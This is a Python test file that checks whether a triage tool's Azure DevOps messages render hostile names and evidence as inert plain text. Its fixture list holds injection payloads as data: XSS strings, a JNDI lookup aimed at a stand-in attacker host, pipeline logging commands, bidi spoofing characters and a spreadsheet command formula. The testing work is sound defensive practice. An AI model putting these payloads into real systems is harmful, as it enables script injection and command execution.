"""Hostile text comes out as text, in Markdown and in HTML."""

from __future__ import annotations

import itertools
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from tests import findings
from triage.publish import messages
from triage.safe import fenced, visible, words

# The tables and strikethrough of Azure DevOps' own Markdown, and raw HTML let through to see it.
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

HOSTILE = [
    "```\n# out of the fence\n[click](https://evil.example)",
    "~~~~\n</pre><script>alert(1)</script>",
    "````````````````````` `` ` ```",
    "[renew here](https://evil.example/renew)",
    "![pixel](https://evil.example/p.png)",
    "[x][y]\n\n[y]: https://evil.example 'title'",
    "<https://evil.example>",
    "https://evil.example/plain",
    "www.evil.example",
    "mailto:eve@evil.example",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "<!-- swallow the rest",
    "</code></pre><iframe src=//evil.example>",
    "&lt;b&gt; &#60;script&#62; &amp;",
    "@eve @<6f1c2d3e-0000-4000-8000-000000000009> <a data-vss-mention='version:2.0'>@all</a>",
    "fixes #123, !45 and AB#678",
    "# heading",
    "1. one\n2. two",
    "- item",
    "+ item",
    "> quote",
    "===",
    "---",
    "| a | b |\n|---|---|\n| c | d |",
    "**bold** __strong__ *em* _em_ ~~gone~~ `code`",
    "\\[half escaped\\](https://evil.example)",
    "\\\\",
    "ends with a backslash \\",
    ":::mermaid graph :::",
    "[[_TOC_]]",
    "$$x^2$$",
    "{{ 7 * 7 }} {% raw %} {0} %s ${jndi:ldap://evil.example}",
    "##vso[task.setvariable variable=x]y",
    "##[error]not an error ##VSO[build.addbuildtag]z",
    "safe\u202egnp.exe\u2066 zero\u200bwidth\ufeff \U000e0041",
    "bell\x07 escape\x1b[31m null\x00 del\x7f",
    "line\u2028separator\u2029paragraph\x85next",
    "\r\n\r\n# after CRLF",
    "\t\tcode by tab",
    "    code by space",
    "\ud800 lone surrogate",
    "=cmd|' /C calc'!A0",
    "x" * 5000,
    "`" * 5000,
    "\n".join(["line"] * 500),
    "",
    "   ",
]
HOSTILE += ["".join(pair) for pair in itertools.product(["a|", "`", "]("], ["\n# b", "<b>", "@c", "#1"])]

MENTION = re.compile(r"(?<![\\\w])@[<\w]|(?<!\\)#\d|(?<!\\)!\d|\w#\d")


class Seen(HTMLParser):
    """Collects what an HTML page is made of."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links |= {value or "" for name, value in attrs if name in {"href", "src"}}
        self.attributes |= {name for name, _ in attrs}


def seen(html: str) -> Seen:
    parser = Seen()
    parser.feed(html)
    parser.close()
    return parser


def kinds(markdown: str) -> list[str]:
    tokens = MARKDOWN.parse(markdown)
    return [t.type for t in tokens if t.type != "inline"] + [
        child.type for t in tokens for child in t.children or [] if child.type != "text"
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_renders_as_one_paragraph_of_plain_text(text: str) -> None:
    assert kinds(words(text)) in ([], ["paragraph_open", "paragraph_close"])


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_shows_as_itself(text: str) -> None:
    shown = "".join(
        child.content for t in MARKDOWN.parse(words(text)) for child in t.children or [] if child.content
    )
    assert shown == visible(text)[:300].strip()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_holds_no_mention_reference_or_bare_address(text: str) -> None:
    safe = words(text)
    assert not MENTION.search(safe)
    assert not re.search(r"https?:|www\.|mailto:", safe)
    assert not re.search(r"##(vso)?\[", safe.replace("\\", ""), re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE)
def test_evidence_stays_inside_its_fence(text: str) -> None:
    markdown = f"before\n\n{fenced(text)}\n\nafter\n"
    assert kinds(markdown) == [
        "paragraph_open",
        "paragraph_close",
        "fence",
        "paragraph_open",
        "paragraph_close",
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_evidence_is_short_and_obeyed_by_nobody(text: str) -> None:
    lines = fenced(text).split("\n")[1:-1]
    assert len(lines) <= 20
    assert all(len(line) <= 300 for line in lines)
    assert not re.search(r"##(vso)?\[", "\n".join(lines), re.IGNORECASE)
    assert not re.search("[\u200b\u202e\u2066\u2028\ufeff\x00\x07\x1b\x7f]", "\n".join(lines))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("sink", ["work item", "further runs", "still failing", "thread"])
def test_a_whole_message_has_the_shape_and_the_links_it_has_with_tame_names(sink: str, text: str) -> None:
    tame, hostile = _message(sink, "tame"), _message(sink, text)
    assert kinds(hostile) == kinds(tame)
    assert seen(MARKDOWN.render(hostile)).links == seen(MARKDOWN.render(tame)).links


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("sink", ["work item", "adopted", "further runs", "still failing"])
def test_as_html_it_has_the_tags_and_links_it_has_with_tame_names(sink: str, text: str) -> None:
    tame, hostile = seen(messages.html(_message(sink, "tame"))), seen(messages.html(_message(sink, text)))
    assert hostile.tags == tame.tags
    assert hostile.links == tame.links
    assert hostile.attributes == tame.attributes


@pytest.mark.parametrize("text", HOSTILE)
def test_a_title_is_one_line_of_at_most_255_characters(text: str) -> None:
    title = messages.title(findings.named(text))
    assert title.startswith("[triage] ")
    assert title.endswith(" has expired")
    assert len(title) <= 255
    assert "\n" not in title
    assert not re.search(r"##(vso)?\[", title, re.IGNORECASE)


def _message(sink: str, name: str) -> str:
    finding = findings.named(name or " ")
    if not visible(name):  # a connection always has a name; an invisible one shows as nothing
        finding = replace(findings.named("x"), evidence=finding.evidence)
    match sink:
        case "work item":
            return messages.work_item(finding, incident_tag="triage-0", incident_page="http://127.0.0.1/i/1")
        case "adopted":
            return messages.adopted(finding.run)
        case "further runs":
            return messages.further_runs((finding.run,), 3, 1000, "http://127.0.0.1/i/1")
        case "still failing":
            return messages.still_failing(finding.run)
        case _:
            return messages.thread(finding, work_item_url=None, work_item=None, marker="triage-0")
